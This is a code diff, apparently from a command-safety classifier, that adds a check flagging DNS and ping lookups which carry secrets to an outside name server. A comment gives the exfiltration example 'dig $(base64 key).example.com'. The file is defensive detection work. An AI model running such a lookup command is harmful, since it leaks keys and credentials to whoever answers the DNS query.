@@ -1,9 +1,15 @@
 /** Programs that only read: harmless but for what they read. */
 import type { Word } from '../../../types.ts';
 import type { Call, Tool } from '../../types.ts';
-import { HARMLESS, LOCAL, together, toolOf } from '../doing.ts';
+import { HARMLESS, LOCAL, reading, together, toolOf } from '../doing.ts';
 import { fills } from '../files/write.ts';
-import { credentialsReadIn } from './credentials.ts';
+import {
+  credentialsReadIn,
+  isSecret,
+  sentDoing,
+  substitutionsIn,
+  tellsOfSecret,
+} from './credentials.ts';
 
 /** Every operand is a file. */
 const printers = toolOf(
@@ -62,6 +68,20 @@ const searchers: readonly Tool[] = [
   ),
 ];
 
+/** A name that is looked up travels to whoever answers for it: `dig $(base64 key).example.com`. */
+const askers = toolOf(
+  'name-lookup',
+  'dig host nslookup ping ping6 drill kdig traceroute tracepath mtr'.split(' '),
+  ['-t', '-c', '-q', '-p', '-W', '-i', '-s'],
+  ({ invocation, operands }, context) => {
+    const named = operands.find(({ text }) => !text.startsWith('@'));
+    const secret =
+      substitutionsIn(invocation.text).some(tellsOfSecret) ||
+      operands.some((word) => word.unknowns.some(tellsOfSecret) && isSecret(word, context));
+    return secret ? reading(sentDoing(named?.text ?? 'a server of names')) : {};
+  },
+);
+
 /** Neither content nor state: names, sizes, sums, the machine, the session. */
 const lookers: Tool = {
   id: 'looker',
@@ -73,7 +93,7 @@ const lookers: Tool = {
     'pstree top htop btop atop glances free vmstat iostat mpstat sar id whoami who w users groups last lastb ' +
     'lastlog getent finger logname tty env printenv locale localectl seq factor expr bc dc sleep wait ' +
     'watch time times clear reset tput stty tr tsort numfmt dmidecode lsmod modinfo sw_vers ' +
-    'ss netstat ping ping6 traceroute tracepath mtr dig host nslookup whois arp resolvectl ethtool nmap ' +
+    'ss netstat whois arp resolvectl ethtool nmap ' +
     'ifstat iftop nethogs tcpdump tshark locate mlocate plocate fd fdfind fzf sk zoxide tokei ' +
     'cloc scc loc wslpath cygpath uuidgen getconf ldd nm objdump readelf size addr2line ' +
     'strace ltrace perf gdb lldb valgrind jobs bg fg disown alias unalias hash dirs pushd popd cd ' +
@@ -90,4 +110,4 @@ const lookers: Tool = {
   otherwise: 'harmless',
 };
 
-export const readingTools: readonly Tool[] = [printers, ...searchers, lookers];
+export const readingTools: readonly Tool[] = [printers, ...searchers, askers, lookers];
